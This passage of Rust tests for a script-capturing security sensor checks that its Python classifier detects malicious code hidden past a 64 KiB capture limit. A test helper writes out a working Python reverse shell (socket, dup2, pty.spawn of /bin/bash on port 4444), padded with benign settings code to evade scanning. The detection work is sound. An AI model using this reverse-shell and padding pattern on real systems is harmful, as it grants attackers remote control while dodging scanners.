        let mut raw = fake.exec(cut, &[b"/bin/sh", long.as_bytes()]);
        (raw.exe_path, raw.exe_path_bytes) = (Some("/bin/sh".into()), b"/bin/sh".to_vec());
        raw.filename_truncated = true;
        let event = fake.enricher().exec(&raw);
        assert_eq!(event.script.unwrap().contents, "#!/bin/sh\necho real\n");
        // Decoy at the cut path, the whole path in no argument: nothing is opened.
        write(
            &fake.host().join(OsStr::from_bytes(&cut[1..])),
            b"#!/bin/sh\necho decoy\n",
        );
        raw.argv_bytes = vec![b"/bin/sh".to_vec()];
        raw.argv = vec!["/bin/sh".into()];
        let event = fake.enricher().exec(&raw);
        assert!(event.script.is_none(), "{:?}", event.script);
    }

    #[test]
    fn a_script_is_read_once_for_its_head_tail_size_and_hash() {
        let dir = tempfile::tempdir().unwrap();
        // Bytes that differ at every offset (mod 251), so a misplaced byte shows.
        let body: Vec<u8> = (0..300_000u32).map(|k| (k % 251) as u8).collect();
        for size in [0, 1, 999, 1000, 1001, 65_536, 65_537, 200_000, 300_000] {
            let path = dir.path().join("s.py");
            std::fs::write(&path, &body[..size]).unwrap();
            for (head, tail) in [(0, 0), (10, 1000), (70_000, 100_000), (1 << 20, 256 << 10)] {
                let mut f = File::open(&path).unwrap();
                let r = read_script(&mut f, 1 << 30, head, tail).unwrap();
                let what = format!("size {size}, head {head}, tail {tail}");
                assert_eq!(r.size, size as u64, "{what}");
                assert_eq!(r.head, &body[..size.min(head)], "{what}");
                assert_eq!(r.tail, &body[size - size.min(tail)..size], "{what}");
                assert_eq!(
                    r.sha256.unwrap(),
                    hex::encode(Sha256::digest(&body[..size])),
                    "{what}"
                );
            }
        }
        // Past the hashing limit: no hash, and the tail read at the end of the file.
        let path = dir.path().join("big.py");
        std::fs::write(&path, &body).unwrap();
        let r = read_script(&mut File::open(&path).unwrap(), 100_000, 10, 1000).unwrap();
        assert_eq!((r.sha256, r.size), (None, body.len() as u64));
        assert_eq!(r.tail, &body[body.len() - 1000..]);
    }

    #[test]
    fn large_scripts_are_captured_in_part_and_marked() {
        let fake = FakeHost::new(79, false, false);
        let body: Vec<u8> = b"x = 1\n".iter().copied().cycle().take(10 << 20).collect();
        write(&fake.host().join("big.py"), &body);
        let mut enricher = fake.enricher();
        let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/big.py"]));
        let captured = event.script.unwrap();
        assert!(captured.truncated);
        assert_eq!(captured.size, 10 << 20);
        assert_eq!(captured.contents.len(), 64 * 1024);
        assert_eq!(captured.sha256.unwrap(), hex::encode(Sha256::digest(&body)));
        // Past the hashing limit: still captured in part, marked, without a hash.
        let mut enricher = Enricher::new(EnrichConfig {
            max_hash_bytes: 1 << 20,
            ..enricher.config.clone()
        });
        let captured = enricher
            .exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/big.py"]))
            .script
            .unwrap();
        assert_eq!((captured.size, captured.truncated), (10 << 20, true));
        assert_eq!(captured.contents.len(), 64 * 1024);
        assert!(captured.sha256.is_none());
    }

    /// The Python model, as `shrike watch` gives it to the sensor.
    fn python_model() -> PythonScorer {
        let model = shrike_pyml::embedded_model().expect("the built-in model loads");
        PythonScorer(Arc::new(shrike_pyml::Classifier::new(model, None)))
    }

    /// `pad` bytes of ordinary settings code, then a reverse shell: with 100 KB, the 64 KiB
    /// capture holds only the settings.
    fn padded_reverse_shell(pad: usize) -> Vec<u8> {
        let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
        let mut i = 0;
        while text.len() < pad {
            text.push_str(&format!(
                "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
            ));
            i += 1;
        }
        text.push_str(
            "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
             for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
        );
        text.into_bytes()
    }

    /// The windows the model cuts `script` into.
    fn windows_of(script: &[u8]) -> usize {
        shrike_core::event::python_windows(
            std::str::from_utf8(script).unwrap(),
            shrike_pyml::lexer::resume_points,
        )
        .len()
    }

    #[test]
    fn python_scripts_longer_than_the_capture_are_scored_further_with_the_model() {
        let fake = FakeHost::new(81, false, false);
        let script = padded_reverse_shell(100_000);
        write(&fake.host().join("job.py"), &script);
        let scorer = python_model();
        let threshold = scorer.0.threshold();
        // A budget no machine's speed can spend (the budget's own test is at the end).
        let mut enricher = Enricher::new(EnrichConfig {
            python: Some(scorer),
            python_budget: std::time::Duration::from_secs(3600),
            ..fake.enricher().config.clone()
        });
        let python = |e: &mut Enricher| {
            e.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/job.py"]))
                .script
                .expect("the script is captured")
        };
        let captured = python(&mut enricher);
        assert!(captured.truncated);
        assert_eq!(captured.contents.len(), 64 * 1024);
        // The capture alone looks benign; the script scored as far as the model reads does not.
        let model = python_model();
        assert!(model.0.score(&captured.contents) < 0.1);
        let recorded = captured.python.expect("a long Python script is scored");
        assert_eq!(recorded.model, model.0.model_name());
        assert_eq!(recorded.scored_bytes, script.len() as u64);
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert!(recorded.reasons.contains("dup2"), "{recorded:?}");
        // Once per script: the same file again comes from the cache.
        assert_eq!(python(&mut enricher).python, Some(recorded));
        assert_eq!(enricher.stats().python_scored, 1);

        // Past PYTHON_SCORED_BYTES the script is scored in windows, each on its own, and the
        // verdict says how many: here the first holds the shell.
        let mut long = script.clone();
        long.resize(PYTHON_SCORED_BYTES + 4096, b'\n');
        write(&fake.host().join("job.py"), &long);
        let captured = python(&mut enricher);
        let recorded = captured.python.unwrap();
        assert_eq!(
            (
                recorded.scored_bytes,
                recorded.scored_tail_bytes,
                recorded.windows
            ),
            (long.len() as u64, 0, 2)
        );
        assert_eq!(captured.size, long.len() as u64);
        assert_eq!(captured.contents.len(), 64 * 1024);
        assert!(recorded.score >= threshold);
        // More than PYTHON_SCORED_BYTES of ordinary code before the shell: the first window
        // looks benign, the last does not, and its reasons are given.
        let padded = padded_reverse_shell(PYTHON_SCORED_BYTES + 100_000);
        assert!(
            model
                .0
                .score(&String::from_utf8_lossy(&padded[..PYTHON_SCORED_BYTES]))
                < threshold
        );
        write(&fake.host().join("job.py"), &padded);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert!(recorded.reasons.contains("dup2"), "{recorded:?}");
        assert_eq!(
            (
                recorded.scored_bytes,
                recorded.scored_tail_bytes,
                recorded.windows
            ),
            (padded.len() as u64, 0, 2)
        );
        // The shell in the middle of 3 MB, with 1.5 MB of ordinary code on each side: out of
        // sight of the first 768 KiB and the last 256 KiB (what the sensor scored before
        // windows), in sight of the windows.
        let mut middle = padded_reverse_shell(1_500_000);
        let after = padded_reverse_shell(1_500_000);
        let cut = after.len() - 200;
        middle.extend_from_slice(&after[after.iter().position(|&c| c == b'\n').unwrap()..cut]);
        let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
        assert!(model.0.score(&text(&middle[..768 << 10])) < threshold);
        assert!(model.0.score(&text(&middle[middle.len() - (256 << 10)..])) < threshold);
        write(&fake.host().join("job.py"), &middle);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert!(recorded.reasons.contains("dup2"), "{recorded:?}");
        assert_eq!(
            (recorded.scored_bytes, recorded.windows),
            (middle.len() as u64, 3)
        );
        // A docstring across the second window's start (960 KiB) and the shell after it, past
        // the first window's end: a window starts after the docstring, where the model's
        // reading of the whole script stands (started inside it, it read the shell as a
        // string).
        let settings = padded_reverse_shell(2 << 20);
        let first = settings[..(960 << 10) - 300]
            .iter()
            .rposition(|&c| c == b'\n')
            .unwrap();
        let mut across = settings[..=first].to_vec();
        across.extend_from_slice(b"NOTES = \"\"\"\n");
        while across.len() < (1 << 20) + 500 {
            across.extend_from_slice(b"notes on the settings and their defaults\n");
        }
        across.extend_from_slice(b"\"\"\"\n");
        let shell = padded_reverse_shell(0);
        across.extend_from_slice(&shell[shell.iter().position(|&c| c == b'\n').unwrap() + 1..]);
        let rest = &settings[first + 1..first + (1 << 20)];
        across.extend_from_slice(&rest[..=rest.iter().rposition(|&c| c == b'\n').unwrap()]);
        write(&fake.host().join("job.py"), &across);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert!(recorded.reasons.contains("dup2"), "{recorded:?}");
        // Three windows, and one more at the line near the second's nominal start: the
        // docstring runs more than 48 KiB past it.
        assert_eq!(
            (recorded.scored_bytes, recorded.windows),
            (across.len() as u64, 4)
        );
        assert_eq!(recorded.windows as usize, windows_of(&across));
        // Past PYTHON_SCORED_MAX, up to 9 MiB: the start and the ring of the end hold all of
        // the script, and all of it is scored in windows.
        let joined = padded_reverse_shell(PYTHON_SCORED_MAX + 300_000);
        write(&fake.host().join("job.py"), &joined);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert_eq!(
            (recorded.scored_bytes, recorded.scored_tail_bytes),
            (joined.len() as u64, 0)
        );
        assert_eq!(recorded.windows as usize, windows_of(&joined));
        // Past 9 MiB: the windows over the first PYTHON_SCORED_MAX bytes and the last
        // PYTHON_SCORED_BYTES (from a line's start), here holding the shell.
        let huge = padded_reverse_shell(PYTHON_SCORED_MAX + PYTHON_SCORED_BYTES + 300_000);
        write(&fake.host().join("job.py"), &huge);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score >= threshold, "{recorded:?}");
        assert_eq!(recorded.scored_bytes, PYTHON_SCORED_MAX as u64);
        let tail = recorded.scored_tail_bytes as usize;
        assert!(tail < PYTHON_SCORED_BYTES && tail > PYTHON_SCORED_BYTES - 200);
        assert_eq!(huge[huge.len() - tail - 1], b'\n');
        let stride = PYTHON_SCORED_BYTES - shrike_core::event::PYTHON_WINDOW_OVERLAP;
        let head_windows = (PYTHON_SCORED_MAX - PYTHON_SCORED_BYTES).div_ceil(stride) + 1;
        assert_eq!(recorded.windows as usize, head_windows + 1);
        // Below threshold: scored, without the work of reasons.
        write(&fake.host().join("job.py"), &script[..script.len() - 200]);
        let recorded = python(&mut enricher).python.unwrap();
        assert!(recorded.score < threshold, "{recorded:?}");
        assert!(recorded.reasons.is_empty());
        assert_eq!(enricher.stats().python_scored, 8);

        // A script within the capture is the detector's to score; a shell's script is not
        // Python; and without the model the sensor scores nothing.
        write(&fake.host().join("job.py"), &script[script.len() - 300..]);
        assert_eq!(python(&mut enricher).python, None);
        write(&fake.host().join("job.sh"), &script);
        let mut sh = fake.exec(b"/bin/sh", &[b"sh", b"/job.sh"]);
        sh.exe_path = Some("/bin/sh".into());
        sh.exe_path_bytes = b"/bin/sh".to_vec();
        let shell = enricher.exec(&sh).script.unwrap();
        assert!(shell.truncated && shell.python.is_none());
        write(&fake.host().join("job.py"), &script);
        assert_eq!(python(&mut fake.enricher()).python, None);

        // A `#!/usr/bin/python3` file run directly: the kernel ran Python with it.
        let mut shebang = b"#!/usr/bin/python3\n".to_vec();
        shebang.extend_from_slice(&script);
        write(&fake.host().join("tool"), &shebang);
        let captured = enricher
            .exec(&fake.exec(b"/tool", &[b"/tool"]))
            .script
            .unwrap();
        assert_eq!(captured.path.as_deref(), Some("/tool"));
        assert!(captured.python.unwrap().score >= threshold);

        // With its budget spent, the sensor leaves the script to the detector, and counts it;
        // a verdict it already has still comes from the cache.
        let mut enricher = Enricher::new(EnrichConfig {
            python: Some(python_model()),
            python_budget: std::time::Duration::ZERO,
            ..fake.enricher().config.clone()
        });
        let captured = python(&mut enricher);
        assert!(captured.truncated && captured.python.is_none());
        let stats = enricher.stats();
        assert_eq!((stats.python_scored, stats.python_over_budget), (0, 1));
        let mut enricher = Enricher::new(EnrichConfig {
            python: Some(python_model()),
            python_budget: std::time::Duration::from_nanos(1),
            ..fake.enricher().config.clone()
        });
        assert!(python(&mut enricher).python.is_some());
        // The same second, whatever the machine's speed.
        enricher.python_spent.0 = std::time::Instant::now() + std::time::Duration::from_secs(3600);
        write(&fake.host().join("job.py"), &script[1..]);
        assert!(python(&mut enricher).python.is_none(), "over budget");
        write(&fake.host().join("job.py"), &script);
        assert!(python(&mut enricher).python.is_some(), "cached");
        let stats = enricher.stats();
        assert_eq!((stats.python_scored, stats.python_over_budget), (1, 1));
    }

    #[test]
    fn environment_values_that_are_not_utf8_or_too_long_are_kept_and_marked() {
        let fake = FakeHost::new(80, false, false);
        let mut environ =
            b"PATH=/first\0PATH=/second\0LANG=caf\xe9\0NOEQUALS\0\xff=1\0HOME=".to_vec();
        environ.extend_from_slice("h".repeat(2000).as_bytes());
        environ.push(0);
        write(&fake.proc().join("environ"), &environ);
        let event = fake
            .enricher()
            .exec(&fake.exec(b"/usr/bin/python3", &[b"python3"]));
        assert_eq!(event.env["PATH"], "/first");
        assert_eq!(event.env["LANG"], "caf\u{fffd}");
        assert_eq!(event.env["HOME"].len(), ENV_VALUE_CHARS);
        assert!(event.env_truncated);
        // Short and clean: not marked.
        write(&fake.proc().join("environ"), b"PATH=/bin\0");
        let event = fake
            .enricher()
            .exec(&fake.exec(b"/usr/bin/python3", &[b"python3"]));
        assert!(!event.env_truncated);
        // An environment past the read limit is marked even when every kept value is whole.
        let mut big = b"PATH=/bin\0".to_vec();
        big.extend(std::iter::repeat_n(b'A', ENVIRON_BYTES));
        write(&fake.proc().join("environ"), &big);
        let event = fake
            .enricher()
            .exec(&fake.exec(b"/usr/bin/python3", &[b"python3"]));
        assert_eq!(event.env["PATH"], "/bin");
        assert!(event.env_truncated);
    }
}
